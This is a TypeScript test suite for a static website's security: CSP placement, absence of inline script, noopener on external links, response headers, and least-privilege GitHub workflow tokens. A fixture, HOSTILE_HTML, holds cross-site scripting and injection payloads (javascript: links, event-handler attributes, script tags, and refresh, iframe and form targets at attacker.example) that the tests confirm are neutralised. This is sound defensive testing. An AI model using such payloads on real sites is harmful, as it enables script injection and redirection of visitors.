import { readdirSync, readFileSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';
import { join } from 'node:path';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy, REFERRER_POLICY, securityHeaders } from '../src/site/security.ts';
import { headersForPath, parseHeadersFile } from '../test-support/headers.ts';
import { loadSiteConfig } from '../src/site/config.ts';
import { builtPages } from '../test-support/pages.ts';
import { builtCopy, FIXTURE_CONTENT, fixtureSite, projectRoot } from '../test-support/project.ts';
import { siteInBrowser } from '../test-support/browser.ts';

/** What every built page of the fixture site carries for safety, read from its dist/ (pages found there, not listed). */
interface Tag {
  name: string;
  attrs: Record<string, string>;
  line: number;
}

function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  let line = 1;
  let read = 0;
  const parser = new Parser({
    onopentag(name, attrs) {
      line += (html.slice(read, parser.startIndex).match(/\n/g) ?? []).length;
      read = parser.startIndex;
      tags.push({ name, attrs, line });
    },
  });
  parser.write(html);
  parser.end();
  return tags;
}

/** Whether a <script> runs as code (a data block such as type="application/json" does not, and the CSP ignores it). */
const runs = (attrs: Record<string, string>) => {
  const type = (attrs.type ?? '').trim().toLowerCase();
  return type === '' || type === 'module' || /^(text|application)\/(x-)?(javascript|ecmascript)/.test(type);
};

const pages = builtPages().map((p) => ({ ...p, tags: tagsOf(readFileSync(p.file, 'utf8')) }));
const site = loadSiteConfig(join(projectRoot, FIXTURE_CONTENT, '..'));
const siteHost = new URL(site.url).host;

describe('every built page', () => {
  it('opens <head> with the Content-Security-Policy, before anything it governs', () => {
    for (const page of pages) {
      const index = page.tags.findIndex((t) => t.name === 'meta' && t.attrs['http-equiv']?.toLowerCase() === 'content-security-policy');
      expect(index, `${page.route} has no CSP <meta>`).toBeGreaterThan(-1);
      expect(page.tags[index]!.attrs.content).toBe(contentSecurityPolicy('meta'));
      const governed = page.tags.findIndex((t) => ['link', 'script', 'style', 'img'].includes(t.name));
      expect(index, `${page.route}: the CSP <meta> comes after a <${page.tags[governed]?.name}>`).toBeLessThan(governed);
      expect(page.tags.find((t) => t.name === 'meta' && t.attrs.name === 'referrer')?.attrs.content, page.route).toBe(REFERRER_POLICY);
    }
  });

  it('has no inline script, event handler or style attribute for the policy to block', () => {
    const inline = pages.flatMap((page) =>
      page.tags.flatMap((t) => [
        ...(t.name === 'script' && !t.attrs.src && runs(t.attrs) ? [`${page.route}:${t.line} inline <script>`] : []),
        ...Object.keys(t.attrs)
          .filter((a) => /^on/i.test(a) || a === 'style')
          .map((a) => `${page.route}:${t.line} <${t.name} ${a}=…>`),
        ...(t.attrs.href?.trim().toLowerCase().startsWith('javascript:') ? [`${page.route}:${t.line} javascript: link`] : []),
      ]),
    );
    expect(inline).toEqual([]);
  });

  it('gives every link to another host rel="noopener"', () => {
    const bare = pages.flatMap((page) =>
      page.tags
        .filter((t) => (t.name === 'a' || t.name === 'area') && /^(https?:)?\/\//i.test(t.attrs.href ?? ''))
        .filter((t) => new URL(t.attrs.href!, site.url).host !== siteHost)
        .filter((t) => !(t.attrs.rel ?? '').split(/\s+/).includes('noopener'))
        .map((t) => `${page.route}:${t.line} ${t.attrs.href}`),
    );
    expect(bare).toEqual([]);
    // The charter's own links to GitHub are among those checked.
    expect(pages.find((p) => p.name === 'governance')!.tags.some((t) => t.name === 'a' && t.attrs.href?.startsWith('https://github.com/'))).toBe(true);
  });
});

describe('dist/_headers', () => {
  it('sends the same policy, and the headers a <meta> cannot carry, for every page', () => {
    const rules = parseHeadersFile(readFileSync(join(fixtureSite().dist, '_headers'), 'utf8'));
    for (const page of pages) expect(headersForPath(rules, page.route), page.route).toEqual(securityHeaders());
    const header = securityHeaders()['Content-Security-Policy'];
    for (const directive of contentSecurityPolicy('meta').split('; ')) expect(header).toContain(directive);
  });
});

/**
 * Hostile content, as a pull request could propose it, built into a copy of the site and
 * loaded in a real browser: a .md doc and a meeting record full of raw HTML that would
 * redirect, run script, embed or submit. The site keeps only what GitHub keeps
 * (src/markdown/author-html.ts); here the browser shows that nothing of it acts. (Its image
 * fails to load without leaving the site: one from another host is refused by the content check,
 * tests/bad-input.test.ts.)
 */
const ATTACKER = 'attacker.example';
const HOSTILE_HTML = `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">

Read [the notes](javascript:document.title='pwned-link') or <a id="js-link" href="javascript:document.title='pwned-a'">these</a>.

<img src="#main" alt="x" onerror="document.title='pwned-img'">

<iframe src="https://${ATTACKER}/frame"></iframe>

<form action="https://${ATTACKER}/form" method="post"><input name="q" value="x"><button id="submit">Send</button></form>

<svg onload="document.title='pwned-svg'"><use href="https://${ATTACKER}/x.svg#a"/></svg>

<script>document.title = 'pwned-script'</script>

<div onmouseover="document.title='pwned-hover'">Hover here</div>

<object data="https://${ATTACKER}/x.swf"></object><embed src="https://${ATTACKER}/embed"><link rel="stylesheet" href="https://${ATTACKER}/x.css">

<style>main { display: none } /* pwned-style */</style><title>pwned-title</title>
`;

describe('a page built from hostile content, in the browser', () => {
  // On the fixture content (tests/fixtures/site/content), whose office hours have a meeting on 2025-06-26.
  const hostile = builtCopy((copy) => {
    copy.withFixtureContent();
    copy.write('content/docs/hostile.md', `---\ntitle: Hostile\ndescription: Raw HTML that must not act.\n---\n\n${HOSTILE_HTML}`);
    copy.write('content/meetings/office-hours/2025-06-26.md', `---\n---\n\n## Notes\n\n${HOSTILE_HTML}`);
    // An MDX doc's own HTML link to another host, which no Markdown link plugin sees.
    copy.write(
      'content/docs/hostile-mdx.mdx',
      `---\ntitle: Hostile MDX\ndescription: HTML links in MDX.\n---\n\nSee <a href="https://${ATTACKER}/opener">this</a>.\n\n<a href="//${ATTACKER}/alone">alone</a>\n`,
    );
    // A motion, as decision:new writes a subject into the body.
    copy.write(
      'content/decisions/2026-03-hostile.md',
      `---\nrule: change-charter\nsubject: Hostile motion\nopened: 2026-03-01\nheldAt: ${site.repository}/issues/101\nvotes: {}\n---\n\n${HOSTILE_HTML}`,
    );
  });
  const served = siteInBrowser(() => hostile.dist);

  it.each([['hostile/'], ['meetings/office-hours/2025-06-26/'], ['decisions/2026-03-hostile/']])(
    '%s: no navigation, no request to another host, no script run',
    async (route) => {
      const page = await served.browser.newPage();
      const elsewhere: string[] = [];
      const dialogs: string[] = [];
      const pageUrl = new URL(route, served.site.url).href;
      await page.route('**/*', (r) => {
        if (new URL(r.request().url()).hostname !== '127.0.0.1') {
          elsewhere.push(r.request().url());
          return r.abort();
        }
        return r.continue();
      });
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.goto(pageUrl, { waitUntil: 'load' });
      const title = await page.title();
      // Whatever a reader does: hover, click every link left, submit every form left.
      await page.hover('text=Hover here');
      for (const link of await page.locator('main a').all()) {
        const href = await link.getAttribute('href');
        if (href?.startsWith('#') === false) continue;
        await link.click({ noWaitAfter: true }).catch(() => undefined);
      }
      await page
        .locator('#submit')
        .click({ timeout: 500 })
        .catch(() => undefined);
      await page.waitForTimeout(500);
      expect(page.url().replace(/#.*$/, '')).toBe(pageUrl);
      expect(await page.title()).toBe(title);
      expect(title).not.toContain('pwned');
      expect(elsewhere).toEqual([]);
      expect(dialogs).toEqual([]);
      const html = await page.locator('main').innerHTML();
      for (const tag of ['<iframe', '<form', '<object', '<embed', '<svg', 'http-equiv="refresh"', 'javascript:']) expect(html, tag).not.toContain(tag);
      await page.close();
    },
  );

  it('give an <a> written in MDX to another host rel="noopener", as a Markdown link gets it', () => {
    const links = tagsOf(hostile.read('hostile-mdx/')).filter((t) => t.name === 'a' && t.attrs.href?.includes(ATTACKER));
    expect(links.map((t) => [t.attrs.href, t.attrs.rel])).toEqual([
      [`https://${ATTACKER}/opener`, 'noopener'],
      [`//${ATTACKER}/alone`, 'noopener'],
    ]);
  });

  it.each([['hostile/'], ['meetings/office-hours/2025-06-26/'], ['decisions/2026-03-hostile/']])(
    '%s leaves nothing of a <style> or <title> written in it on the page, as text or as an element',
    (route) => {
      const main = /<main[\s\S]*<\/main>/.exec(hostile.read(route))![0];
      expect(main).not.toMatch(/pwned-style|pwned-title|display: none|<style|<title/);
    },
  );
});

describe('the CI workflows, which build every pull request', () => {
  const workflows = readdirSync(join(projectRoot, '.github/workflows'))
    .filter((name) => name.endsWith('.yml'))
    .map((name) => ({ name, workflow: parseYaml(readFileSync(join(projectRoot, '.github/workflows', name), 'utf8')) as Workflow }));

  // A job that may write runs none of the project's code (no npm, no node), so no dependency ever holds that token.
  const writingJobs = [
    { name: 'deploy.yml', id: 'deploy', permissions: { pages: 'write', 'id-token': 'write' } },
    { name: 'gitvote-import.yml', id: 'propose', permissions: { contents: 'write', 'pull-requests': 'write' } },
  ];

  it('give the token no more than reading the repository, except the job that publishes to Pages and the one that proposes a GitVote result', () => {
    const granted = [];
    for (const { name, workflow } of workflows) {
      expect(workflow.permissions, name).toEqual({ contents: 'read' });
      for (const [id, job] of Object.entries(workflow.jobs)) {
        if (job.permissions === undefined) continue;
        if (Object.values(job.permissions).every((p) => p === 'read')) continue;
        granted.push({ name, id, permissions: job.permissions });
      }
    }
    expect(granted).toEqual(writingJobs);
  });

  it('run no npm or node in a job whose token may write', () => {
    for (const { name, id } of writingJobs) {
      const job = workflows.find((w) => w.name === name)!.workflow.jobs[id]!;
      const script = (job.steps ?? []).map((s) => s.run ?? '').join('\n');
      expect(script, `${name} ${id}`).not.toMatch(/\b(npm|npx|node)\b/);
      expect(
        (job.steps ?? []).map((s) => s.uses ?? '').filter((u) => u.startsWith('actions/setup-node')),
        `${name} ${id}`,
      ).toEqual([]);
    }
  });

  it('keep no token in a checkout, where the content being built could read it from .git/config', () => {
    const checkouts = workflows.flatMap(({ name, workflow }) =>
      Object.values(workflow.jobs).flatMap((job) =>
        (job.steps ?? []).filter((s) => s.uses?.startsWith('actions/checkout@')).map((s) => ({ name, with: s.with })),
      ),
    );
    expect(checkouts.length).toBeGreaterThan(1);
    for (const checkout of checkouts) expect(checkout.with?.['persist-credentials'], checkout.name).toBe(false);
  });
});

interface Workflow {
  permissions?: Record<string, string>;
  jobs: Record<string, { permissions?: Record<string, string>; steps?: { uses?: string; run?: string; with?: Record<string, unknown> }[] }>;
}
